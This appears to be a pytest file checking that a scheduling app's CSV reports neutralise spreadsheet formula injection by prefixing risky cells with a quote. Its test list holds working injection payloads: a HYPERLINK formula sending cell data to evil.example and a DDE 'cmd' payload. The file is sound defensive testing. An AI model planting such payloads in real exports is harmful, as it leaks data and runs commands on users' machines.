"""CSV exports carry no cell a spreadsheet would run as a formula (CSV/formula injection)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from sqlalchemy.orm import Session

from scheduling.csv_cells import safe_cell
from scheduling.models import PersonSkill, Skill, SkillRelation
from scheduling.services.skills import skill_key
from tests.factories import login, make_admin, make_mentee, make_program

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_prefixed(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Python", "a=b", "", -3, 2.5, None, "'quoted"])
def test_other_cells_are_unchanged(value: Any) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("path", ["/admin/report.csv", "/api/v1/reports/health?format=csv"])
def test_report_download_neutralises_a_skill_named_as_a_formula(client: Any, db: Session, path: str) -> None:
    make_program(db)
    names = HOSTILE[:4]  # skill names are stored without control characters
    mentee = make_mentee(db)
    for name in names:
        skill = Skill(name=name, key=skill_key(name))
        db.add(skill)
        db.flush()
        db.add(PersonSkill(person_id=mentee.id, skill_id=skill.id, relation=SkillRelation.WANTS))
    db.commit()
    login(client, make_admin(db))
    resp = client.get(path)
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    cells = [cell for row in csv.reader(io.StringIO(resp.get_data(as_text=True))) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    skills = {c for c in cells if c.startswith("'")}
    assert skills >= {"'" + n for n in names}
